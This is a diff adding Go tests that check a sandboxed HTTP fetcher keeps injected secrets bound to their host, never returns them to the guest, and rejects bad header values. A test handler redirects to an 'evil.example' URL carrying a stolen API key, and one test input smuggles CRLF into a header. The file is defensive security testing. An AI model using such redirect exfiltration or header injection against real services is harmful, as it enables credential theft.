@@ -1,0 +1,102 @@
+package fetch
+
+import (
+	"bytes"
+	"context"
+	"encoding/base64"
+	"fmt"
+	"io"
+	"net/http"
+	"strings"
+	"testing"
+)
+
+const canary = "canary-4f1c9a7e-secret"
+
+// secrets is a policy that injects the canary for one host.
+func secrets(inject ...Injection) *Policy {
+	return &Policy{Inject: inject, Secret: func(name string) (string, bool) { return canary, name == "TOKEN" }}
+}
+
+// echoAll gives back everything of a request, in every part of the answer.
+func echoAll(w http.ResponseWriter, r *http.Request) {
+	var all bytes.Buffer
+	r.Header.Write(&all)
+	body, _ := io.ReadAll(r.Body)
+	flat := strings.ReplaceAll(all.String(), "\r\n", "|")
+	w.Header().Set("X-Echo", flat)
+	if r.URL.Path == "/redirect" {
+		w.Header().Set("Location", "http://evil.example/?stolen="+r.Header.Get("X-Api-Key"))
+		w.WriteHeader(302)
+	}
+	fmt.Fprintf(w, "%s %s", flat, body)
+}
+
+// THREAT[SE-02] A secret goes to the host that it is bound to, and nowhere else:
+// not to another host, port or scheme, and not back to the guest.
+func TestSecretStaysBound(t *testing.T) {
+	n := &fakeNet{}
+	var seen []string
+	n.serve(t, func(w http.ResponseWriter, r *http.Request) {
+		seen = append(seen, fmt.Sprintf("%s%s %v", r.Host, r.URL, r.Header.Get("X-Api-Key") == canary))
+		echoAll(w, r)
+	})
+	var log []Event
+	p := secrets(Injection{Host: "api.example", HTTP: true, Headers: map[string]string{"X-Api-Key": "${TOKEN}", "Authorization": "Bearer ${TOKEN}"}})
+	p.AllowedPorts = []uint16{80, 8080}
+	p.Log = func(e Event) { log = append(log, e) }
+	c := n.client(t, p)
+	var out strings.Builder
+	for _, url := range []string{
+		"http://api.example/", "http://api.example:8080/", "http://sub.api.example/", "http://api.example.evil.example/",
+		"http://api.example/redirect", "http://evil.example/", "http://api.example/x?y",
+	} {
+		resp, err := c.Do(context.Background(), &Request{URL: url, Header: Header{{"x-api-key", "guest's"}}, Raw: true})
+		fmt.Fprintf(&out, "%+v %v\n", resp, err)
+		if resp != nil {
+			out.Write(resp.Body)
+		}
+	}
+	fmt.Fprintf(&out, "%+v", log)
+	if strings.Contains(out.String(), canary) {
+		t.Errorf("the secret came back:\n%s", out.String())
+	}
+	want := "api.example/ true; api.example:8080/ false; sub.api.example/ false; api.example.evil.example/ false; " +
+		"api.example/redirect true; evil.example/?stolen=" + strings.Repeat("*", len(canary)) + " false; evil.example/ false; api.example/x?y true"
+	if got := strings.Join(seen, "; "); got != want {
+		t.Errorf("got  %s\nwant %s", got, want)
+	}
+}
+
+func TestInjectionNeedsHTTPS(t *testing.T) {
+	in, err := secrets(Injection{Host: "api.example", Headers: map[string]string{"A": "${TOKEN}"}}).injected(Target{Scheme: "http", Host: "api.example", Port: 80})
+	if err != nil || len(in.fields) != 0 {
+		t.Errorf("%v %v", in, err)
+	}
+	in, err = secrets(Injection{Host: "api.example", Headers: map[string]string{"A": "${TOKEN}"}}).injected(Target{Scheme: "https", Host: "api.example", Port: 443})
+	if err != nil || len(in.fields) != 1 || in.fields[0].Value != canary {
+		t.Errorf("%v %v", in, err)
+	}
+}
+
+func TestInjectionErrors(t *testing.T) {
+	for _, value := range []string{"${NOTHING}", "${TOKEN", "a\r\nb"} {
+		c := (&fakeNet{}).client(t, secrets(Injection{Host: "api.example", HTTP: true, Headers: map[string]string{"A": value}}))
+		if _, err := get(c, "http://api.example/"); err == nil || strings.Contains(err.Error(), canary) {
+			t.Errorf("%q: %v", value, err)
+		}
+	}
+}
+
+func TestForms(t *testing.T) {
+	basic := "Basic " + base64.StdEncoding.EncodeToString([]byte("user:"+canary))
+	in := injection{secrets: forms(basic)}
+	resp := &Response{Body: []byte("password=" + canary + " header=" + basic), Reason: canary, Header: Header{{"X", canary + canary}}}
+	in.scrub(resp)
+	if got := fmt.Sprintf("%s %+v", resp.Body, resp); strings.Contains(got, canary) || strings.Contains(got, basic[6:]) {
+		t.Error(got)
+	}
+	if forms("short") != nil {
+		t.Error("a short value is looked for")
+	}
+}
